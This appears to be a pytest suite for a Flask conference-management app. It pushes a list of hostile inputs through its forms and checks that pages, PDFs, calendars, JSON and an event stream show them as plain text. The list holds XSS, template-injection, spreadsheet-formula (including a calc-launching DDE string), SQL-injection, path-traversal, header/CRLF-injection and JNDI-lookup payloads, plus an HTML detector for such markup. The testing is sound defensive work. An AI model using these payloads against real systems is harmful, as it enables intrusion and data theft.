"""Hostile texts through every field to every page and paper: shown as text, run by nobody, longer than nothing allows."""

from __future__ import annotations

import io
import json
import re
from html.parser import HTMLParser
from typing import Any

import icalendar
import pypdf
import pytest
import sqlalchemy as sa
from flask import Flask

from eventmgr.domain.text import clean
from eventmgr.models.agenda import Item
from eventmgr.models.awards import AwardForm
from eventmgr.models.conferences import Conference
from eventmgr.models.database import db, transaction
from eventmgr.models.delegates import Delegate, Group
from eventmgr.models.invitations import Invitation, Pass
from eventmgr.services import pass_codes
from tests.people import SLUG, Person
from tests.published import publish
from tests.web.test_letters import LETTERS, settle_date

pytestmark = pytest.mark.database("sqlite")

HOME = f"/office/{SLUG}"
TEXTS = [
    "<script>alert(1)</script>", "</script><script>alert(2)</script>", "</title><img src=x onerror=alert(3)>", "<svg onload=alert(4)>",
    '" onmouseover="alert(5)', "' autofocus onfocus='alert(6)", "--><b>7</b>", "]]><x>", "&lt;b&gt;&amp;", "</textarea><h1>9</h1>",
    "</style><style>*{display:none}", "{{91*91}}", "{% raw %}", "${7*7}", "#{7*7}", "%s%n%(x)s", "=1+1", "+84905", "@SUM(A1)", "-2+3",
    "javascript:alert(8)", "https://evil.example/", "data:text/html,<b>", "url(//evil.example)", "'; DROP TABLE accounts; --",
    "100% _ \\ %_%", "Nguye\u0302\u0303n Thi\u0323", "👩‍👩‍👧‍👦 Lê", "\u202eđảo\u202c", "\u200bkhông\u200b", "a\0b", "a\r\nX-Header: y",
    "line\u2028para\u2029", "\ufeffbom", "Ḽ͓͎", "ﷺ", "田中", "../../etc/passwd", "file:///etc/passwd", "-" * 50, "&nbsp;&#x202e;",
    "\u2066cô lập\u2069 \u202aL\u202c", "a\u200d\u0306ă\u200c", "Hòa\u0302\u0301 Nguyê\u0303n", "Z\u0351\u036b\u0343\u036a\u0302" * 8, "🇻🇳 🏳️‍🌈 👍🏽",
    "a\r\nBcc: ke@evil.example\r\nSubject: x", "\n\ndata: giả\nevent: state\nid: 9\n\n", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:giả",
    "a;b,c:d\\n\\,\\;", "\t=cmd|' /C calc'!A0", "＝1+1", "=HYPERLINK(\"https://evil.example/\";\"bấm\")", "'=1+1", '"";=1+1;""',
    '@import url("file:///etc/passwd");', '<link rel="attachment" href="file:///etc/passwd">', '<img src="file:///etc/passwd">',
    '\n{"level":"error","message":"giả"}', "%0d%0aSet-Cookie: a=b", "..\\..\\windows\\win.ini", "${jndi:ldap://evil.example/a}",
    "{{ config }}{{ ''.__class__ }}", "<!--#exec cmd=id--><?php 1 ?>", "\x1b[31mđỏ\x1b[0m\x07\x7f",
]  # fmt: skip


DIRECTIONS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\x1b\x07\x7f"


class Tags(HTMLParser):
    """Collects what a browser would run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag} {name}")
            if name in {"href", "src", "action", "formaction"} and re.match(r"\s*(javascript|data:text|//|https?://evil)", value or ""):
                self.found.append(f"{tag} {name}={value}")
        if tag in {"iframe", "object", "embed", "base"} or (tag == "script" and not {"src", "nonce"} & {name for name, _ in attrs}):
            self.found.append(tag)


def run_by(html: str) -> list[str]:
    tags = Tags()
    tags.feed(html)
    return tags.found


@pytest.fixture
def filled(lan: Person, quantri: Person, khanh: Person, conference: Conference) -> dict[str, Any]:
    """The corpus in groups, bodies, delegates, letters, programme, awards, gates, accounts and the conference itself."""
    settle_date(lan)
    group = db.session.scalars(sa.select(Group.id).where(Group.conference_id == conference.id).order_by(Group.position)).first()
    form = db.session.scalars(sa.select(AwardForm.id).where(AwardForm.conference_id == conference.id)).first()
    assert group is not None and form is not None
    chosen = {"group_id": str(group), "address_form": "ông", "body_id": "", "rank": ""}
    for number, text in enumerate(TEXTS):
        facts = {"full_name": f"Người Thứ {chr(65 + number % 26)}", "posts": text, "note": text, "alert": text, "seat": text[:40]}
        stored = lan.post(f"{HOME}/delegates/new", expect=302, **chosen, **facts)
        lan.post(f"{HOME}/delegates/new", **chosen, **(facts | {"full_name": text}))
        with transaction():  # however it came in: not every name passes the form
            delegate = db.session.get_one(Delegate, int(stored.location.rsplit("/", 1)[1]))
            delegate.full_name = clean(text)
        for url, data in (
            (f"{HOME}/bodies/new", {"name": f"{text} {number}", "seat_in_group": text, "group_id": ""}),
            (f"{HOME}/gates", {"name": f"{text} {number}"}),
            (f"{HOME}/agenda", {"title": text}),
        ):
            assert lan.post(url, **data).status_code in {302, 409, 422}, (url, text)  # 409: a programme has sixty items at most
        award = {"kind": "individual", "printed_name": f"{text} {number}", "post": text, "note": text}
        assert khanh.post(f"{HOME}/awards/{form}/honourees/new", **award).status_code in {302, 422}, text
        account = {"username": f"nguoi{number}", "display_name": text}
        assert quantri.post("/office/accounts", **account).status_code in {200, 422}, text
    return {"form": form, "group": group}


def test_the_corpus_is_text_on_every_page(app: Flask, filled: dict[str, Any], quantri: Person, stranger: Person) -> None:
    delegates = list(db.session.scalars(sa.select(Delegate).where(Delegate.group_id == filled["group"])))
    names = {one.full_name for one in delegates}
    assert names >= {clean(text) for text in TEXTS}
    pages = [str(rule).replace("<slug>", SLUG) for rule in app.url_map.iter_rules()
             if "GET" in (rule.methods or set()) and not rule.arguments - {"slug"} and rule.endpoint != "hall.stream"]  # fmt: skip
    items = db.session.scalars(sa.select(Item.id).order_by(Item.id.desc()).limit(len(TEXTS))).all()
    pages += [f"{HOME}/delegates/{one.id}" for one in delegates[::3]] + [f"{HOME}/agenda/{number}" for number in items[::4]]
    pages += [f"{HOME}/delegates?q={text}" for text in ("%", "_", "\\", "<script>", "{{91*91}}")]
    pages += [f"{HOME}/awards/{filled['form']}", f"{HOME}/awards/{filled['form']}/calling", f"/sign-in?next={TEXTS[4]}"]
    bad = {}
    for url in pages:
        for person in (quantri, stranger):
            with person.client.get(url) as answer:
                assert answer.status_code < 500 or url == "/readyz", url
                if answer.mimetype == "text/html":
                    text = answer.get_data(as_text=True)
                    if found := run_by(text):
                        bad[url] = found
                    assert "<script>alert" not in text and "8281" not in text and not set(DIRECTIONS) & set(text), url
    assert bad == {}


def test_the_corpus_is_text_on_paper_in_calendars_and_data(filled: dict[str, Any], lan: Person, khanh: Person, stranger: Person) -> None:
    publish(db.session.scalars(sa.select(Conference.id)).one())
    lan.post(f"{LETTERS}/drafts", expect=302)
    lan.post(f"{LETTERS}/approvals", expect=302, all="1")
    facts = {"first_number": "5", "dated_on": "22/12/2015", "signer_lines": "<b>CHÁNH</b>", "signer_name": "{{91*91}} <i>"}
    lan.post(f"{LETTERS}/issue", expect=302, all="1", **facts)
    wanted = {text: clean(text) for text in ("<script>alert(1)</script>", "{{91*91}}", "=1+1", "file:///etc/passwd", '" onmouseover="alert(5)')}
    for text in wanted.values():
        letter = db.session.scalars(
            sa.select(Invitation).join(Delegate, Delegate.id == Invitation.delegate_id).where(Delegate.full_name == text)
        ).first()
        assert letter is not None
        code = pass_codes.code_of(db.session.scalars(sa.select(Pass).where(Pass.invitation_id == letter.id)).one())
        page = stranger.get(f"/i/{code}").get_data(as_text=True)
        assert run_by(page) == [] and "<script>alert" not in page
        assert b"<script" not in stranger.get(f"/i/{code}/qr.svg").data
    printed = pypdf.PdfReader(io.BytesIO(stranger.get(f"/i/{code}/invitation.pdf").data)).pages[0].extract_text()
    assert "{{91*91}}" in printed and "<i>" in printed and "8281" not in printed
    for url in (f"/e/{SLUG}/programme.pdf", f"/e/{SLUG}/press/names.pdf", f"{HOME}/awards/{filled['form']}/list.pdf", f"{HOME}/gates/sign-in.pdf"):
        text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(lan.get(url).data)).pages)
        text = text.replace("\0", "")  # so pypdf reads letters of the fonts behind Times
        assert "alert(1)" in text and "root:" not in text, url
    calendar = icalendar.Calendar.from_ical(stranger.get(f"/e/{SLUG}/programme.ics").data)
    assert [part.name for part in calendar.walk()].count("VEVENT") == 1
    titles = [item["title"] for item in json.loads(stranger.get(f"/e/{SLUG}/programme.json").data)["items"]]
    assert "<script>alert(1)</script>" in titles
    with stranger.client.get(f"/e/{SLUG}/stream?view=audience") as answer:
        stream: Any = iter(answer.response)
        told = "".join(next(stream).decode() for _ in range(2))
    assert "&lt;script&gt;alert(1)" in told and "<script>" not in told


@pytest.mark.parametrize("length", [10_000, 50_000])
def test_texts_beyond_measure_come_back_with_a_sentence(lan: Person, conference: Conference, length: int) -> None:
    group = db.session.scalars(sa.select(Group.id).where(Group.conference_id == conference.id)).first()
    long = "ễ" * (length // 9)
    for url, data in (
        (f"{HOME}/delegates/new", {"full_name": long, "posts": long, "group_id": str(group), "address_form": "", "body_id": "", "rank": ""}),
        (f"{HOME}/bodies/new", {"name": long, "group_id": ""}), (f"{HOME}/groups/new", {"label": long, "role": "delegate"}),
        (f"{HOME}/gates", {"name": long}), (f"{HOME}/agenda", {"title": long}), (f"{HOME}/awards/new", {"authority": long}),
        (f"{HOME}/settings", {"title": long, "short_title": long, "kind": "K", "organiser": "O"}),
    ):  # fmt: skip
        page = lan.post(url, expect=422, **data).get_data(as_text=True)
        assert long[:500] in page, url
